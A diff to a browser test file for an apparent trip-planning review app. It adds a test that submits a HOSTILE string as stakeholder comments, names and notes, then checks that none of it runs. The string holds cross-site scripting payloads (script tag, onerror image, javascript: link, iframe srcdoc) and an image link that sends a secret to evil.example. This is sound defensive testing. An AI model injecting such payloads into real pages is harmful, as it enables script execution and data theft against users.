@@ -7,6 +7,7 @@ import pytest
 from playwright.sync_api import Page, expect
 
 from db.models import utc_now
+from services.reviews.records import DecisionKind
 from tests.helpers.browser import ask, open_app
 from tests.helpers.planners import Planner, database_of
 from tests.helpers.reviews import Reviews
@@ -15,6 +16,12 @@ from tests.helpers.services import Emulator
 pytestmark = pytest.mark.browser
 
 ANNA = "a" * 32
+HOSTILE = """<script>window.ran = "script"</script><img src=x onerror="window.ran = 'image'">
+![picture](https://evil.example/?secret=1) [by address](javascript:window.ran="link") $x$ :tada: `code
+<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
+
+The end
+"""
 
 
 @pytest.fixture
@@ -51,6 +58,7 @@ def test_session_is_shared_and_what_is_said_appears_while_the_planner_types(
     expect(page.get_by_text("Could we leave out the castle?")).to_be_visible()
     page.get_by_role("button", name="Answer").click()
     box = page.get_by_role("textbox", name="Your answer")
+    expect(box).to_be_focused()
     box.fill("Gladly: we could ")
     reviews.visits.comment(token, ANNA, "And the tram?", name="Anna")
     expect(page.get_by_text("And the tram?")).to_be_visible()
@@ -84,3 +92,26 @@ def test_mark_in_the_sidebar_appears_beside_a_reply_that_is_being_written(
     expect(page.get_by_role("button", name="Stop")).to_have_count(0, timeout=40_000)
     reviews.visits.look(other.token, ANNA)
     expect(entry).to_contain_text("Reviews 2")
+
+
+def test_nothing_that_a_stakeholder_writes_is_run_or_fetched(page: Page, planner: Planner, reviews: Reviews) -> None:
+    session_id = reviews.session(planner.id)
+    link = reviews.share(session_id, planner.id, audience=HOSTILE[:70], note=HOSTILE)
+    shown = reviews.visits.look(link.token, ANNA)
+    anchor, sha256 = shown.snapshot.blocks[1].anchor, shown.version.sha256
+    reviews.visits.comment(link.token, ANNA, HOSTILE, name=HOSTILE[:70], anchor=anchor)
+    reviews.visits.decide(link.token, ANNA, DecisionKind.DECLINE, name=HOSTILE[:70], note=HOSTILE, sha256=sha256)
+    fetched: list[str] = []
+    page.on("request", lambda request: fetched.append(request.url))
+
+    page.goto(f"{planner.app.url}/reviews?review={link.review.id}")
+    expect(page.get_by_text("The end")).to_have_count(3)  # comment, decision, note
+    page.get_by_role("button", name="All reviews").click()
+    expect(page.get_by_text("<script>window.ran").first).to_be_visible()
+    page.goto(f"{planner.app.url}/?session={session_id}")
+    page.get_by_role("button", name="1 comment").click()
+    expect(page.get_by_role("dialog")).to_contain_text("The end")
+
+    assert page.evaluate("window.ran") is None
+    assert page.evaluate("document.querySelectorAll('main iframe, [srcdoc], [onclick], [onerror]').length") == 0
+    assert not [url for url in fetched if "evil.example" in url]
